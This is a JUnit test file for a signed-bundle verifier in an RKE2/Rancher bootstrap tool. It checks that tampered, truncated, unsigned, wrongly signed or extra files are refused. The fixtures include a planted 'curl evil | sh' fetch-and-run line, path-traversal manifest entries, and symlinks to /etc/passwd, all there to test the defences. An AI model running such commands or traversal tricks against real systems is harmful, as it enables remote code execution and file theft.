package io.seedbootstrap.bundle;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.seedbootstrap.bundle.format.Arch;
import io.seedbootstrap.bundle.format.SafeNames;
import io.seedbootstrap.bundle.manifest.BundleManifest;
import io.seedbootstrap.bundle.manifest.ManifestFile;
import io.seedbootstrap.inventory.model.Cni;
import io.seedbootstrap.pki.signing.BundleSigningKey;
import io.seedbootstrap.support.ExitCode;
import io.seedbootstrap.support.SeedException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Every way a bundle can be wrong is refused, with the file named and the exact message. */
class BundleVerifierTest {
    static final String CORE = "rke2/rke2-images-core.linux-amd64.tar.zst";
    static final String TARBALL = "rke2/rke2.linux-amd64.tar.gz";

    @TempDir
    static Path shared;

    static Path rke2Artifacts;

    @TempDir
    Path dir;

    Path bundle;
    BundleManifest manifest;
    BundleSigningKey key = BundleSigningKey.generate();

    @BeforeAll
    static void rke2Artifacts() throws Exception {
        rke2Artifacts = TestBundles.rke2Artifacts(shared);
    }

    @BeforeEach
    void build() throws Exception {
        Path mirror = TestBundles.mirror(dir, rke2Artifacts);
        // 16 KiB: the 41 KB RKE2 tarball and the 70 KB image archive are stored as parts (and upstream's 25 KB install.sh)
        manifest = TestBundles.build(dir, mirror, key, 16 * 1024).manifest();
        bundle = dir.resolve("bundle");
    }

    private List<String> problems() {
        return problems(BundleVerifier.Trust.pinned(key.fingerprint(), "test pin"));
    }

    private List<String> problems(BundleVerifier.Trust trust) {
        BundleVerifier.Report report = new BundleVerifier(3, Progress.none()).verify(bundle, trust);
        return report.problems().stream().map(BundleVerifier.Problem::render).toList();
    }

    private String sha(String path) {
        return manifest.files().stream().flatMap(f -> f.storedPieces().stream()).filter(p -> p.path().equals(path)).findFirst()
                .orElseThrow().sha256();
    }

    @Test
    void aPinWithBase64PaddingMatchesTheSameKey() {
        // SHA256:<43 characters>= is the same digest in padded base64; it passed the format check but never matched
        BundleVerifier.Report report = new BundleVerifier(3, Progress.none())
                .verify(bundle, BundleVerifier.Trust.pinned(key.fingerprint() + "=", "test pin"));
        assertEquals(List.of(), report.problems());
        assertTrue(report.signerPinned());
        assertEquals(List.of(), problems(BundleVerifier.Trust.pinned("sha256:" + key.fingerprint().substring(7) + "=", "test pin")),
                "the prefix is case-insensitive, as for host keys");
    }

    @Test
    void anIntactBundleVerifiesWithThePinnedKey() {
        BundleVerifier.Report report = new BundleVerifier(3, Progress.none())
                .verify(bundle, BundleVerifier.Trust.pinned(key.fingerprint(), "test pin"));
        assertEquals(List.of(), report.problems());
        assertTrue(report.signerPinned());
        assertEquals(key.fingerprint(), report.signer());
        assertEquals(manifest.totalSize() - manifest.file("bom/test-v1.35.yaml").orElseThrow().size()
                + manifest.file("bom/test-v1.35.yaml").orElseThrow().size(), report.bytesHashed());
    }

    @Test
    void aFlippedByteIsNamed() throws Exception {
        TestBundles.flipByte(bundle.resolve(CORE), 100);
        assertEquals(List.of(CORE + ": sha256 is " + TestBundles.sha256(bundle.resolve(CORE)) + ", the manifest says " + sha(CORE)
                + " (the content was changed or damaged)"), problems());
    }

    @Test
    void aTruncatedFileAndATruncatedPartAreNamed() throws Exception {
        Path part = bundle.resolve(TARBALL + ".part001");
        Files.write(part, java.util.Arrays.copyOf(Files.readAllBytes(part), 1000));
        // a file stored whole (install.sh may be stored as parts: upstream's is 25 KB)
        Path checksums = bundle.resolve("rke2/sha256sum-amd64.txt");
        long size = Files.size(checksums);
        Files.write(checksums, java.util.Arrays.copyOf(Files.readAllBytes(checksums), (int) size - 1));
        assertEquals(List.of(
                TARBALL + ".part001: size is 1000 bytes, the manifest says 16384 (truncated)",
                "rke2/sha256sum-amd64.txt: size is " + (size - 1) + " bytes, the manifest says " + size + " (truncated)"), problems());
    }

    @Test
    void missingAndUnexpectedFilesAreNamedAllAtOnceWithDamage() throws Exception {
        Files.delete(bundle.resolve("charts/rancher-2.14.3.tgz"));
        Files.delete(bundle.resolve(TestBundles.RANCHER_IMAGE_FILE + ".part004"));
        Files.writeString(bundle.resolve("rke2/extra.sh"), "curl evil | sh\n");
        Files.writeString(bundle.resolve("notes.txt"), "hello\n");
        TestBundles.flipByte(bundle.resolve(CORE), 1);
        long chartSize = manifest.file("charts/rancher-2.14.3.tgz").orElseThrow().size();
        assertEquals(List.of(
                "charts/rancher-2.14.3.tgz: missing (the manifest lists " + chartSize + " bytes)",
                TestBundles.RANCHER_IMAGE_FILE + ".part004: missing (the manifest lists 4464 bytes)",
                "notes.txt: unexpected file: not in the signed manifest",
                "rke2/extra.sh: unexpected file: not in the signed manifest",
                CORE + ": sha256 is " + TestBundles.sha256(bundle.resolve(CORE)) + ", the manifest says " + sha(CORE)
                        + " (the content was changed or damaged)"), problems());
    }

    @Test
    void operatingSystemLitterIsIgnoredWithANote() throws Exception {
        Files.writeString(bundle.resolve(".DS_Store"), "x");
        Files.writeString(bundle.resolve("rke2/._install.sh"), "x");
        Files.createDirectories(bundle.resolve("System Volume Information"));
        Files.writeString(bundle.resolve("System Volume Information/IndexerVolumeGuid"), "x");
        BundleVerifier.Report report = new BundleVerifier(2, Progress.none()).verify(bundle, BundleVerifier.Trust.none());
        assertEquals(List.of(), report.problems());
        assertEquals(List.of("ignored .DS_Store (operating-system metadata)", "ignored System Volume Information/ (operating-system metadata)",
                "ignored rke2/._install.sh (operating-system metadata)"), report.notes().stream().sorted().toList());
    }

    @Test
    void anUnsignedBundleIsRefused() throws Exception {
        Files.delete(bundle.resolve("manifest.json.sig"));
        assertEquals(List.of("manifest.json.sig: missing: the bundle is unsigned; refusing it (bundle create signs every bundle)"), problems());
    }

    @Test
    void aManifestChangedAfterSigningIsRefusedAndNothingElseIsReported() throws Exception {
        String text = Files.readString(bundle.resolve("manifest.json"));
        Files.writeString(bundle.resolve("manifest.json"), text.replace("\"size\" : 16384", "\"size\" : 16385"));
        Files.delete(bundle.resolve(CORE)); // not reported: nothing is trusted before the signature (files are only hashed early)
        BundleVerifier.Report report = new BundleVerifier(2, Progress.none())
                .verify(bundle, BundleVerifier.Trust.pinned(key.fingerprint(), "test pin"));
        assertEquals(List.of("manifest.json: does not match its signature (manifest.json.sig, key " + key.fingerprint()
                + "): the manifest was changed after signing or the signature is damaged; refusing the bundle"),
                report.problems().stream().map(BundleVerifier.Problem::render).toList());
        assertNull(report.manifest());
        assertEquals(0, report.bytesHashed());
    }

    @Test
    void aBadSignatureIsRefused() throws Exception {
        String sig = Files.readString(bundle.resolve("manifest.json.sig"));
        String value = sig.replaceAll("(?s).*\"signature\" : \"([^\"]+)\".*", "$1");
        char[] chars = value.toCharArray();
        chars[5] = chars[5] == 'A' ? 'B' : 'A';
        Files.writeString(bundle.resolve("manifest.json.sig"), sig.replace(value, new String(chars)));
        assertEquals(List.of("manifest.json: does not match its signature (manifest.json.sig, key " + key.fingerprint()
                + "): the manifest was changed after signing or the signature is damaged; refusing the bundle"), problems());
    }

    @Test
    void aManifestSignedByAnotherKeyIsRefusedNamingBothFingerprints() throws Exception {
        BundleSigningKey other = BundleSigningKey.generate();
        TestBundles.resign(bundle, other, manifest -> { });
        assertEquals(List.of("manifest.json.sig: signed by " + other.fingerprint() + ", but the trusted bundle-signing key is "
                + key.fingerprint() + " (test pin); refusing a bundle signed by another key"), problems());
    }

    @Test
    void unsafePathsInAResignedManifestAreRefusedAndNeverOpened() throws Exception {
        Files.writeString(dir.resolve("outside.txt"), "secret\n");
        TestBundles.resign(bundle, key, manifest -> {
            ArrayNode files = (ArrayNode) manifest.get("files");
            files.addObject().put("path", "../outside.txt").put("size", 7).put("sha256", "0".repeat(64)).put("kind", "bom");
            files.addObject().put("path", "/etc/hostname").put("size", 7).put("sha256", "0".repeat(64)).put("kind", "bom");
            files.addObject().put("path", "images/docker.io/rancher:v1.tar").put("size", 7).put("sha256", "0".repeat(64))
                    .put("kind", "image-archive");
            files.addObject().put("path", "rke2/CON.txt").put("size", 7).put("sha256", "0".repeat(64)).put("kind", "bom");
        });
        assertEquals(List.of(
                "../outside.txt: leaves the bundle directory (\"..\"); refusing this manifest entry",
                "/etc/hostname: absolute path; bundle paths are relative to the bundle directory; refusing this manifest entry",
                "images/docker.io/rancher:v1.tar: not a valid file name on FAT32/exFAT (\":\" is not allowed); refusing this manifest entry",
                "rke2/CON.txt: \"CON.txt\" is a reserved device name on FAT32/exFAT; refusing this manifest entry"), problems());
    }

    @Test
    void symbolicLinksAreRefusedAndOnesEscapingTheBundleSaySo() throws Exception {
        Path chart = bundle.resolve("charts/cert-manager-v1.20.3.tgz");
        Files.delete(chart);
        Files.createSymbolicLink(chart, Path.of("/etc/passwd"));
        Path checksums = bundle.resolve("rke2/sha256sum-amd64.txt");
        Files.move(checksums, bundle.resolve("rke2/checksums.real"));
        Files.createSymbolicLink(checksums, Path.of("checksums.real"));
        Files.createSymbolicLink(bundle.resolve("lists/up"), Path.of("../.."));
        assertEquals(List.of(
                "charts/cert-manager-v1.20.3.tgz: symbolic link to /etc/passwd, which escapes the bundle directory; refusing it",
                "lists/up: symbolic link to ../.., which escapes the bundle directory; refusing it",
                "rke2/checksums.real: unexpected file: not in the signed manifest",
                "rke2/sha256sum-amd64.txt: symbolic link to checksums.real; a bundle holds regular files only (FAT32 has no links)"),
                problems());
    }

    @Test
    void aSymlinkedDirectoryIsRefusedOnceNotForEveryFileBehindIt() throws Exception {
        Path charts = bundle.resolve("charts");
        Path elsewhere = dir.resolve("elsewhere");
        Files.move(charts, elsewhere);
        Files.createSymbolicLink(charts, elsewhere);
        assertEquals(List.of("charts: symbolic link to " + elsewhere + ", which escapes the bundle directory; refusing it"), problems());
    }

    @Test
    void aChartWhoseKubeVersionExcludesTheRke2VersionIsRefusedEvenWhenSigned() throws Exception {
        TestBundles.resign(bundle, key, manifest -> {
            for (var file : manifest.get("files")) {
                if ("chart".equals(file.get("kind").asText()) && "rancher".equals(file.get("chart").asText())) {
                    ((ObjectNode) file).put("kubeVersion", "< 1.35.0-0");
                }
            }
        });
        assertEquals(List.of("charts/rancher-2.14.3.tgz: chart rancher 2.14.3 declares kubeVersion \"< 1.35.0-0\", which does not admit "
                + "Kubernetes 1.35.7 (RKE2 v1.35.7+rke2r1); pick a rancher release whose kubeVersion admits 1.35 (contract E.4) or a BOM "
                + "for an older RKE2 line"), problems());
    }

    @Test
    void catalogChartsAndImagesAreVerifiedLikeEveryOtherFile() throws Exception {
        Path withCatalog = dir.resolve("with-catalog");
        Files.createDirectories(withCatalog);
        Path mirror = TestBundles.mirror(withCatalog, rke2Artifacts);
        String image = "docker.io/traefik:v3.7.11";
        Files.write(mirror.resolve("traefik-41.3.0.tgz"), TestBundles.chart("traefik", "41.3.0", "v41.3.0", ">=1.25.0-0"));
        Files.write(mirror.resolve("images/" + SafeNames.imageArchiveName(image)), TestBundles.randomBytes(5000, 5));
        TestBundles.build(withCatalog, mirror, key, 16 * 1024, TestBundles.bom()
                + TestBundles.catalog("ingress", "traefik", "41.3.0", image, "sha256:" + "cd".repeat(32)));
        bundle = withCatalog.resolve("bundle");
        assertEquals(List.of(), problems());
        String chart = "catalog/traefik-41.3.0.tgz";
        String archive = "catalog/images/" + SafeNames.imageArchiveName(image);
        String chartSha = TestBundles.sha256(bundle.resolve(chart));
        String archiveSha = TestBundles.sha256(bundle.resolve(archive));
        TestBundles.flipByte(bundle.resolve(chart), 10);
        TestBundles.flipByte(bundle.resolve(archive), 10);
        assertEquals(List.of(
                archive + ": sha256 is " + TestBundles.sha256(bundle.resolve(archive)) + ", the manifest says " + archiveSha
                        + " (the content was changed or damaged)",
                chart + ": sha256 is " + TestBundles.sha256(bundle.resolve(chart)) + ", the manifest says " + chartSha
                        + " (the content was changed or damaged)"), problems().stream().sorted().toList());
        TestBundles.flipByte(bundle.resolve(chart), 10);
        TestBundles.flipByte(bundle.resolve(archive), 10);
        TestBundles.resign(bundle, key, m -> {
            for (var file : m.get("files")) {
                if ("catalog-chart".equals(file.get("kind").asText())) {
                    ((ObjectNode) file).put("kubeVersion", "< 1.35.0-0");
                }
            }
        });
        assertEquals(List.of(chart + ": chart traefik 41.3.0 declares kubeVersion \"< 1.35.0-0\", which does not admit Kubernetes "
                + "1.35.7 (RKE2 v1.35.7+rke2r1); pick a traefik release whose kubeVersion admits 1.35 (contract E.4) or a BOM for an "
                + "older RKE2 line"), problems());
    }

    @Test
    void aMalformedOrForeignManifestIsRefused() throws Exception {
        TestBundles.resign(bundle, key, manifest -> manifest.put("format", "something-else/v9"));
        assertEquals(List.of("manifest.json: manifest.json has format \"something-else/v9\"; this seed-bootstrap reads "
                + "seed-bootstrap-bundle/v1 and seed-bootstrap-bundle/v2"), problems());
        TestBundles.resign(bundle, key, manifest -> manifest.put("surprise", 1));
        assertTrue(problems().get(0).startsWith("manifest.json: manifest.json is not a valid bundle manifest: unknown field \"surprise\" in the manifest at line "),
                problems().toString());
    }

    @Test
    void theFailureExceptionNamesEveryProblemAndExitsOne() throws Exception {
        TestBundles.flipByte(bundle.resolve(CORE), 100);
        Files.writeString(bundle.resolve("extra"), "x");
        SeedException e = assertThrows(SeedException.class, () -> new BundleVerifier(2, Progress.none())
                .verify(bundle, BundleVerifier.Trust.pinned(key.fingerprint(), "test")).orThrow());
        assertEquals(ExitCode.FAILED, e.exitCode());
        assertEquals("bundle " + bundle + " failed verification (2 problems):\n  extra: unexpected file: not in the signed manifest\n  "
                + CORE + ": sha256 is " + TestBundles.sha256(bundle.resolve(CORE)) + ", the manifest says " + sha(CORE)
                + " (the content was changed or damaged)", e.getMessage());
    }

    @Test
    void theBundleMustFitTheInventory() {
        VerifiedBundle verified = new BundleVerifier(2, Progress.none()).verify(bundle, BundleVerifier.Trust.none()).orThrow();
        assertEquals(List.of(), verified.compatibilityProblems("v1.35.7+rke2r1", Cni.CILIUM, Arch.AMD64, "host seed-1"));
        SeedException e = assertThrows(SeedException.class,
                () -> verified.requireCompatible("v1.34.2+rke2r1", Cni.CANAL, Arch.ARM64, "host seed-2"));
        assertEquals(ExitCode.BAD_INPUT, e.exitCode());
        assertEquals("bundle " + bundle + " does not fit the inventory:\n"
                + "  the bundle holds RKE2 v1.35.7+rke2r1, but the inventory asks for v1.34.2+rke2r1 (cluster.rke2Version); build a "
                + "bundle from a BOM for v1.34.2+rke2r1 or change cluster.rke2Version\n"
                + "  the bundle is for linux-amd64, but host seed-2 is linux-arm64; build a bundle for arm64", e.getMessage());
    }

    @Test
    void aDamagedPartFailsTheRejoinedReadEvenAfterVerification() throws Exception {
        VerifiedBundle verified = new BundleVerifier(2, Progress.none()).verify(bundle, BundleVerifier.Trust.none()).orThrow();
        TestBundles.flipByte(bundle.resolve(TARBALL + ".part001"), 5);
        ManifestFile tarball = manifest.file(TARBALL).orElseThrow();
        BundleReader.MismatchException e = assertThrows(BundleReader.MismatchException.class, () -> {
            try (InputStream in = verified.open(tarball)) {
                in.transferTo(java.io.OutputStream.nullOutputStream());
            }
        });
        assertEquals(TARBALL + ".part001: 16384 bytes with sha256 " + TestBundles.sha256(bundle.resolve(TARBALL + ".part001"))
                + ", the manifest says 16384 bytes with sha256 " + sha(TARBALL + ".part001"), e.getMessage());
    }

    @Test
    void hashingUsesEveryThreadButOneThreadGivesTheSameAnswer() throws Exception {
        TestBundles.flipByte(bundle.resolve(CORE), 3);
        List<String> parallel = problems();
        BundleVerifier.Report single = new BundleVerifier(1, Progress.none())
                .verify(bundle, BundleVerifier.Trust.pinned(key.fingerprint(), "test pin"));
        assertEquals(parallel, single.problems().stream().map(BundleVerifier.Problem::render).toList());
    }
}
